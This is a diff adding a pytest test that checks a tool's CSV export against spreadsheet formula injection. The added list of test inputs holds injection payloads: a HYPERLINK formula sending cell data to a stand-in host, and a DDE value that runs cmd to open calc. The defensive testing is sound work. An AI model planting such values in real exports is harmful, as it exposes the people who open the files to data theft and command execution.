@@ -65,6 +65,26 @@ def test_what_mail_brings_cannot_play_with_the_terminal(output_format: str) -> N
     assert "[bold]x[/bold]" in output
 
 
+FORMULAS = [
+    pytest.param('=HYPERLINK("http://x.test/?"&A1)', id="equals"),
+    pytest.param("+1@x.example", id="plus"),
+    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
+    pytest.param("@SUM(1)", id="at"),
+    pytest.param("  =1+1", id="after-blanks"),
+    pytest.param("\uff1d1+1", id="full-width"),
+    pytest.param(["=1+1", "b"], id="list"),
+]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_csv_holds_no_formula(value: object) -> None:
+    """A subject that a spreadsheet would calculate becomes text; numbers and JSON stay exact."""
+    rows = [{"name": value, "value": -1}]
+    read = list(csv.reader(io.StringIO(run(rows, "--format", "csv"))))
+    assert read[1] == ["'" + tables.cell(value), "-1"]
+    assert json.loads(run(rows, "--json"))["name"] == value
+
+
 def test_a_table_is_not_cut_when_it_goes_to_a_file() -> None:
     """A pipe has no width."""
     assert "x" * 1000 in run([{"name": "x" * 1000, "value": datetime(2026, 1, 1, tzinfo=UTC)}])
